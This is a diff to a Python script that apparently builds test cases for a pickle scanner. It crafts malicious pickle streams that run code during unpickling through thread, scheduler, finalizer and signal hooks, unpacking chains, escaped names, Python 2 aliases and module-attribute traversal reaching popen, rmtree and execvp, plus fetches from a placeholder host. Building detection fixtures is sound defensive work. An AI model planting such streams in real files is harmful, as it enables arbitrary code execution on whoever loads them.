@@ -1,4 +1,5 @@
 """Pickle streams: what triggers a call without a plain call, what misleads a reader of opcodes, what is called later."""
+import base64, binascii
 from frame import *
 
 OPEN = G("webbrowser:open")  # the callable that most cases here reach for
@@ -23,8 +24,8 @@ for name, shape in rows:
 # ---- somebody else calls it: now or when an object dies ---------------------
 rows = [
     ("weakref-finalize", call(G("weakref:finalize"), call(G("builtins:set")), OPEN, *M)), ("thread-pool", call(sg("concurrent.futures.thread", "ThreadPoolExecutor.submit"), call(G("concurrent.futures.thread:ThreadPoolExecutor")), OPEN, *M)),
-    ("timer-start", call(sg("threading", "Timer.start"), call(G("threading:Timer"), enc(0), OPEN, enc([MARK])))), ("exit-stack", call(sg("contextlib", "ExitStack.callback"), call(G("contextlib:ExitStack")), OPEN, *M)),
-    ("scheduler", call(sg("sched", "scheduler.run"), call(G("sched:scheduler")) + b"0" + call(G("sched:scheduler")))), ("signal-handler", call(G("signal:signal"), enc(14), OPEN)),
+    ("timer-start", call(sg("threading", "Timer.start"), call(G("threading:Timer"), enc(0), OPEN, enc([MARK])))), ("exit-stack", call(G("contextlib:ExitStack")) + b"\x940" + call(sg("contextlib", "ExitStack.callback"), b"h\x00", OPEN, *M) + b"0" + call(sg("contextlib", "ExitStack.close"), b"h\x00")),
+    ("scheduler", call(G("sched:scheduler")) + b"\x940" + call(sg("sched", "scheduler.enter"), b"h\x00", enc(0), enc(0), OPEN, enc((MARK,))) + b"0" + call(sg("sched", "scheduler.run"), b"h\x00")), ("signal-handler", call(G("signal:signal"), enc(14), OPEN)),
 ]
 for name, body in rows:
     pickled("streams", "calls-by-others", name, "block", "hands webbrowser.open to what calls it (or starts a thread, a handler or a scheduler)", len(name), body, n=4)
@@ -58,10 +59,10 @@ for module, function in [("joblib.externals.cloudpickle.cloudpickle", "_make_fun
     pickled("streams", "code-objects", module.replace(".", "-"), "block", f"{module} builds a function out of byte code", len(module), made)
 
 # ---- unpacking before loading -----------------------------------------------
-MARSHALLED = by(b"\xe9" + MARK.encode())
+MARSHALLED = b"\xda" + bytes([len(MARK)]) + MARK.encode()  # a short string
 rows = [
-    ("lzma-marshal", call(G("marshal:loads"), do("lzma:decompress", lzma.compress(MARK.encode())))), ("b85-pickle", call(G("_pickle:loads"), do("base64:b85decode", "jwinert000"))), ("uu-pickle", call(G("pickle:_loads"), do("binascii:a2b_uu", b"#0V%T"))),
-    ("plist-path", call(G("runpy:run_path"), do("plistlib:loads", b"<plist><string>jw-inert</string></plist>"))), ("hex-unpickler", call(G("pickle:_Unpickler.load") if 0 else sg("pickle", "_Unpickler.load"), call(G("pickle:_Unpickler"), call(G("io:BytesIO"), do("binascii:unhexlify", CALL.hex()))))),
+    ("lzma-marshal", call(G("marshal:loads"), do("lzma:decompress", lzma.compress(MARSHALLED)))), ("b85-pickle", call(G("_pickle:loads"), do("base64:b85decode", base64.b85encode(pk(CALL)).decode()))), ("uu-pickle", call(G("pickle:_loads"), do("binascii:a2b_uu", binascii.b2a_uu(b"cwebbrowser\nopen\n(Vjw\ntR.")))),
+    ("plist-path", call(G("runpy:run_path"), do("plistlib:loads", b"<plist><string>jw_inert</string></plist>"))), ("hex-unpickler", call(sg("pickle", "_Unpickler.load"), call(G("pickle:_Unpickler"), call(G("io:BytesIO"), do("binascii:unhexlify", CALL.hex()))))),
 ]
 for k, (name, body) in enumerate(rows):
     pickled("streams", "unpacking-chain", name, "block", "unpacks bytes and runs or loads them", k, body)
@@ -69,7 +70,7 @@ for k, (name, body) in enumerate(rows):
 # ---- names that Python 2 had ------------------------------------------------
 rows = [
     ("urllib-urlretrieve", do("urllib:urlretrieve", f"http://{HOST}/", MARK)), ("commands-getstatusoutput", do("commands:getstatusoutput", MARK)), ("cpickle-loads", do("cPickle:loads", pk(CALL))), ("anydbm-open", do("anydbm:open", f"/nonexistent/{MARK}", "c")),
-    ("xmlrpclib-proxy", do("xmlrpclib:ServerProxy", f"http://{HOST}/")), ("builtin-reduce", call(g("__builtin__", "reduce"), OPEN, enc([MARK, MARK]))),
+    ("urllib2-urlopen", do("urllib2:urlopen", f"http://{HOST}/")), ("builtin-reduce", call(g("__builtin__", "reduce"), OPEN, enc([MARK, MARK]))),
 ]
 for name, body in rows:
     stream("python-2-names", name, "block", "a name of Python 2 that the unpickler maps to today's", pk(body), pk(call(g("__builtin__", "set"), enc([MARK]))))
@@ -81,19 +82,15 @@ rows = [
 ]
 for name, body, why in rows:
     stream("memo-as-text", name, "block", why + ", so webbrowser.open takes the place of OrderedDict", pk(body), pk(g("collections", "OrderedDict") + b"p10\n0" + g("collections", "Counter") + b"p11\n0g10\n)R"))
-rows = [
-    ("hex-escapes", b"S'web\\x62rowser'\nS'\\x6fpen'\n\x93"), ("octal-escapes", b"S'\\167\\145bbrowser'\nS'o\\160en'\n\x93"), ("unicode-escapes", b"Vweb\\u0062rowser\nV\\u006fpen\n\x93"),
-    ("line-continuation", b"S'web\\\nbrowser'\nS'open'\n\x93"), ("latin-bytes", b"T\x0a\x00\x00\x00webbrowserU\x04open\x93"), ("long-unicode", b"\x8d" + struct.pack("<Q", 10) + b"webbrowser" + b"\x8d" + struct.pack("<Q", 4) + b"open\x93"),
-] if False else [("hex-escapes", b"S'web\\x62rowser'\nS'\\x6fpen'\n\x93"), ("octal-escapes", b"S'\\167\\145bbrowser'\nS'o\\160en'\n\x93"), ("unicode-escapes", b"Vweb\\u0062rowser\nV\\u006fpen\n\x93"), ("latin-bytes", b"T\x0a\x00\x00\x00webbrowserU\x04open\x93")]
+rows = [("hex-escapes", b"S'web\\x62rowser'\nS'\\x6fpen'\n\x93"), ("octal-escapes", b"S'\\167\\145bbrowser'\nS'o\\160en'\n\x93"), ("unicode-escapes", b"Vweb\\u0062rowser\nV\\u006fpen\n\x93"), ("latin-bytes", b"T\x0a\x00\x00\x00webbrowserU\x04open\x93")]
 for name, raw in rows:
     calm = raw.replace(b"web\\x62rowser", b"coll\\x65ctions").replace(b"\\x6fpen", b"\\x43ounter").replace(b"\\167\\145bbrowser", b"\\143\\157llections").replace(b"o\\160en", b"Co\\165nter").replace(b"web\\u0062rowser", b"coll\\u0065ctions").replace(b"\\u006fpen", b"\\u0043ounter").replace(b"T\x0a\0\0\0webbrowserU\x04open", b"T\x0b\0\0\0collectionsU\x07Counter")
     stream("names-in-escapes", name, "block", "module and name are written with escapes", pk(raw + tup(*M) + b"R", 4), pk(calm + tup(*M) + b"R", 4))
 
 # ---- a module through another module's attributes ---------------------------
-rows = [("random", "_os.popen"), ("tarfile", "shutil.rmtree"), ("collections", "_sys.setprofile"), ("logging", "os.abort"), ("joblib", "os.remove"), ("numpy", "os.kill")]
-rows[-1] = ("argparse", "_os.execvp")
+rows = [("random", "_os.popen"), ("tarfile", "shutil.rmtree"), ("collections", "_sys.setprofile"), ("logging", "os.abort"), ("joblib", "os.remove"), ("argparse", "_os.execvp")]
 for k, (module, name) in enumerate(rows):
-    body = sg(module, name) + tup(*M) + b"R"
+    body = sg(module, name) + tup(*([] if "abort" in name else [OPEN] if "setprofile" in name else M)) + b"R"
     stream("through-a-module", f"{module}-{name}".replace(".", "-"), "block", f"{module}.{name} is another module's function under a harmless module's name", pk(body, 4) if k % 2 else wrap(body, 5), pk(sg("collections", "OrderedDict.fromkeys") + tup(enc([MARK])) + b"R", 4))
 
 # ---- writing into the interpreter -------------------------------------------
@@ -102,7 +99,7 @@ rows = [
     ("codecs-register", do("codecs:register", Op(OPEN))), ("atexit-register", do("atexit:register", Op(OPEN), MARK)),
 ]
 for k, (name, body) in enumerate(rows):
-    pickled("streams", "into-the-interpreter", name, "block", "puts something of its own where the interpreter looks for code", [0, 1, 4, 3][k % 4], body)
+    pickled("streams", "into-the-interpreter", name, "review" if "linecache" in name else "block", "puts something of its own where the interpreter looks for code", [0, 1, 4, 3][k % 4], body)
 def slot(target, attribute, value): return target + tup(b"N", b"}(" + u(attribute) + value + b"u") + b"b"
 rows = [
     ("json-decode", slot(sg("json.decoder", "JSONDecoder"), "decode", OPEN)), ("torch-load", slot(G("torch.serialization:_legacy_load"), "__wrapped__", OPEN)), ("logger-info", slot(G("logging:Logger"), "info", OPEN)), ("posixpath-join", slot(sg("os", "path"), "join", OPEN)),
@@ -118,7 +115,7 @@ rows = [
     ("logger-handlers", "logging:Formatter", b"}(" + u("converter") + OPEN + b"u"), ("sktime-tspulse", "sktime.classification.foundation_models.tspulse:TSPulseClassifier", b"}(" + u("_model_bytes") + by(INNER) + b"u"),
 ]
 for k, (name, cls, given) in enumerate(rows):
-    pickled("streams", "state-setters", name, "block", "the class's __setstate__ or the later use of the state loads or calls what it is given", [0, 1, 3, 4][k % 4], G(cls) + tup(G("collections:Counter") if "partial" in name else b"") .replace(b"(t", b"(t") + b"\x81" + given + b"b")
+    pickled("streams", "state-setters", name, "block", "the class's __setstate__ or the later use of the state loads or calls what it is given", [0, 1, 3, 4][k % 4], G(cls) + tup(G("collections:Counter") if "partial" in name else b"") + b"\x81" + given + b"b")
 
 # ---- constructors by the older opcodes --------------------------------------
 rows = [
@@ -144,14 +141,13 @@ calm = lambda body: proto(4) + frame(len(body) + 1) + body + b"."
 rows = [
     ("ext-then-add", "block: registers an extension code and uses it in the same stream", pk(call(G("copyreg:add_extension"), u("webbrowser"), u("open"), enc(77)) + b"0\x82\x4d" + tup(*M) + b"R")), ("ext-inverted-registry", "block: writes into the table of extension codes", pk(G("copyreg:_inverted_registry") + enc(78) + enc(("webbrowser", "open")) + b"s0\x83\x4e\x00" + tup(*M) + b"R")),
     ("buffer-without-buffers", "review: asks for a buffer that no file has", pk(b"\x97" + b"\x98", 5)), ("frame-of-nothing", "block: empty frames between the parts of a call", proto(4) + frame(0) + frame(len(CALL)) + CALL + frame(1) + b"."),
-    ("protocol-later", "block: a second PROTO raises the protocol, so that the dotted name works", proto(1) + b"0" * 0 + proto(4) + sg("random", "_os.popen") + tup(*M) + b"R."), ("no-stop", "block: the stream has no end, the call was made before", proto(2) + CALL + b"0" + u("x" * 40)),
+    ("protocol-later", "block: a second PROTO raises the protocol, so that the dotted name works", proto(1) + proto(4) + sg("random", "_os.popen") + tup(*M) + b"R."), ("no-stop", "block: the stream has no end, the call was made before", proto(2) + CALL + b"0" + u("x" * 40)),
 ]
 for name, why, raw in rows:
     word, _, why = why.partition(": ")
     stream("stream-shape", name, word, why, raw, calm(benign(len(name))))
 
 # ---- small streams, large objects -------------------------------------------
-double = b"](" + u("x" * 8) + b"lq\x00" if 0 else b"]q\x00"
 grow = b"(" + u("x" * 16) + b"tq\x00" + b"".join(b"(" + b"h" + bytes([n]) + b"h" + bytes([n]) + b"tq" + bytes([n + 1]) for n in range(40))
 collide = b"}(" + b"".join(b"\x8a\x0c" + ((2**61 - 1) * n).to_bytes(12, "little") + b"N" for n in range(1, 30000)) + b"u"
 spread = b"}(" + b"".join(enc(1009 * n) + b"N" for n in range(1, 30000)) + b"u"
